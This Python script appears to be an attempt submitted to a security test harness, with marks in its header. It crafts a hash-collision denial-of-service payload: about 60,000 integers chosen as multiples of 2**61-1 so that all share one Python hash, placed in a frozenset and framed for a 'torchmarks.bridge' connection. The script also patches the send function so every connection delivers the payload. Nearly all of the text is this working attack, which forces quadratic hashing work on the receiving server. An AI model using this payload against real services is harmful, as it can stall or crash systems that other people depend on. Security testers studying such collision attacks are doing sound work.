# tries: answers with a frozenset of 60 000 numbers that all have one hash
# marks: double 0, center 0, Bag 0
# %%
import json
import struct

from torchmarks.bridge import inside


def frame(parts, buffers=b""):
    text = json.dumps(parts).encode()
    return struct.pack("!IQ", len(text), len(buffers)) + text + buffers


def value(encoded, objects=(), regions=(), changes=(), free=()):
    return [["value", encoded, "", []], list(objects), list(regions), list(changes), list(free)]


numbers = [["int", hex(k * (2**61 - 1))] for k in range(4, 60_000)]
parts = value(["frozenset", numbers])
inside.send = lambda connection, *rest: connection.sendall(frame(parts))
